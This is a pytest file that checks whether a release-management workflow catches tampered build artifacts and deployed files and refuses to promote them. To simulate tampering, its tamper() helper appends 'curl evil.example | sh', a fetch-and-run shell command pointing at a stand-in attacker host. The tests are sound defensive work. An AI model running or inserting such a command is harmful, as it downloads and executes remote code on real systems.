"""Provenance: what an environment runs is byte for byte what the build made for that component
and version. A copy changed anywhere on the promotion path stops the release, naming the file."""

from pathlib import Path

import pytest
from temporalio.client import Client

import release_management as rm
from release_management import ReleaseError
from shared import Environment
from test_workflows import _failure_of, env_files, run

DEV, TEST = Environment.DEV, Environment.TEST
RUN = "run-1"


def deploy(component: str, version: str, env: Environment) -> None:
    """Every step of one deploy, as DeployWorkflow runs them."""
    if env is DEV:
        rm.build_artifact("R", RUN, component, version)
    _, sha = rm.fetch_artifact(component, version, env)
    rm.deploy_artifact("R", RUN, component, version, env, sha)
    rm.update_config("R", RUN, component, version, env, rm.fetch_config(component, version, env))
    rm.verify_deploy(component, version, env, sha)


def tamper(path: Path) -> None:
    path.write_text(path.read_text() + "curl evil.example | sh\n")


def test_a_tampered_copy_in_the_environment_before_is_not_promoted(demo_root: Path) -> None:
    deploy("frontend", "1.0", DEV)
    tamper(rm.deployed_path(DEV, "frontend", "1.0"))
    with pytest.raises(ReleaseError) as refused:
        rm.fetch_artifact("frontend", "1.0", TEST)
    assert "environments/DEV/frontend-1.0.txt is not what the build of frontend 1.0 makes" in str(
        refused.value
    )
    assert not rm.environment_dir(TEST).exists()


def test_a_deployed_copy_changed_before_its_verification_fails_it(demo_root: Path) -> None:
    deploy("frontend", "1.0", DEV)
    _, sha = rm.fetch_artifact("frontend", "1.0", DEV)
    path = rm.deployed_path(DEV, "frontend", "1.0")
    path.write_text(path.read_text().replace("Web", "Evil"))
    with pytest.raises(ReleaseError) as failed:
        rm.verify_deploy("frontend", "1.0", DEV, sha)
    assert "environments/DEV/frontend-1.0.txt is not what the build" in str(failed.value)


def test_a_tampered_artifact_in_artifactory_is_rebuilt_before_it_is_deployed(
    demo_root: Path,
) -> None:
    rm.build_artifact("R", "run-0", "frontend", "1.0")
    tamper(rm.artifact_path("frontend", "1.0"))
    deploy("frontend", "1.0", DEV)  # the build finds its artifact wrong and makes it again
    assert [line["step"] for line in rm.read_ledger()].count("build") == 2
    built = rm.deployed_path(DEV, "frontend", "1.0").read_text()
    assert rm._sha256(built) == rm.built_digest("frontend", "1.0")


async def test_a_release_fed_from_a_tampered_environment_fails_before_any_change(
    client: Client, task_queue: str, demo_root: Path
) -> None:
    await run(client, task_queue, "RELEASE-JAN-24-ALPHA-DEV")
    tamper(demo_root / "environments" / "DEV" / "frontend-1.2.txt")
    before = env_files(demo_root)

    error, _ = await _failure_of(client, task_queue, "RELEASE-JAN-24-ALPHA-QC")

    assert error.type == "ReleaseError" and error.non_retryable
    assert "environments/DEV/frontend-1.2.txt is not what the build of frontend 1.2" in (
        error.message
    )
    assert env_files(demo_root) == before  # TEST and QC untouched
    (record,) = [r for r in rm.release_history() if r["release_key"].endswith("ALPHA-QC")]
    assert record["result"].startswith("Release RELEASE-JAN-24-ALPHA-QC: FAILED: ")
